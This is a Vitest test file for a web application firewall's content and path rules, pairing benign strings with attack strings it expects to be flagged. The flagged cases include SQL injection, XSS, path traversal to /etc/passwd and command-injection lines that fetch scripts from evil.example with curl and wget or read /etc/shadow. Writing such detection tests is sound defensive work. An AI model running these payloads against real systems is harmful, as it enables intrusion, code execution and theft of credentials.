import { describe, expect, it } from 'vitest';
import { matchContent, matchPath } from './waf-patterns.js';

describe('WAF content rules', () => {
  it('leaves a NUL to validation (a 422 naming the field, never a ban)', () => {
    expect(matchContent('file\u0000.png')).toBeNull();
    expect(matchPath('/api/agents/a%00b')).toBeNull();
  });

  it.each([
    ['../../etc/passwd', 'path_traversal'],
    ['..\\..\\windows\\win.ini', 'path_traversal'],
    ['%2e%2e%2fsecret', 'path_traversal'],
    ["1' OR '1'='1", 'sql_injection'],
    ['" or 1=1 --', 'sql_injection'],
    ['1 UNION ALL SELECT password FROM users', 'sql_injection'],
    ['x; DROP TABLE tasks', 'sql_injection'],
    ['1 AND pg_sleep(5)', 'sql_injection'],
    ['<script>alert(1)</script>', 'xss'],
    ['<img src=x onerror=alert(1)>', 'xss'],
    ['javascript:alert(document.cookie)', 'xss'],
    ['$(curl http://evil.example/x.sh)', 'command_injection'],
    ['`id`', 'command_injection'],
    ['a; cat /etc/shadow', 'path_traversal'],
    ['a | wget http://evil.example/x', 'command_injection'],
  ])('flags %j as %s', (text, category) => {
    expect(matchContent(text)).toBe(category);
  });

  it.each([
    'Add the health endpoint',
    "Don't break the login page; it's used by everyone",
    'Select the union of both sets, then sort',
    'Retry after 1=1 second? No: after one second.',
    'feature/gaffer-1234-login',
    'src/app.ts',
    '../README.md',
    'https://example.com/path?x=1&y=2',
    '2026-08-21T10:00:00Z',
    'the script tag is missing from index.html',
    'a <b>bold</b> claim',
    'npm update && npm test',
  ])('leaves %j alone', (text) => {
    expect(matchContent(text)).toBeNull();
  });
});

describe('WAF path rules', () => {
  it.each([
    ['/.env', 'scanner_path'],
    ['/.git/config', 'scanner_path'],
    ['/wp-admin/', 'scanner_path'],
    ['/wp-login.php', 'scanner_path'],
    ['/index.php', 'scanner_path'],
    ['/cgi-bin/luci', 'scanner_path'],
    ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'scanner_path'],
    ['/api/../etc/passwd', 'path_traversal'],
    ['/api/%2e%2e/secret', 'path_traversal'],
    ['/api/tasks/%3Cscript%3E', 'xss'],
  ])('flags %s as %s', (path, category) => {
    expect(matchPath(path)).toBe(category);
  });

  it.each([
    '/',
    '/health',
    '/api/tasks/6f1c2a3b-0000-4000-8000-000000000001',
    '/api/git/file',
    '/docs/json',
    '/assets/index-abc123.js',
    '/.well-known/security.txt',
    '/api/v1/flow/developer/i_am_done',
  ])('leaves %s alone', (path) => {
    expect(matchPath(path)).toBeNull();
  });
});
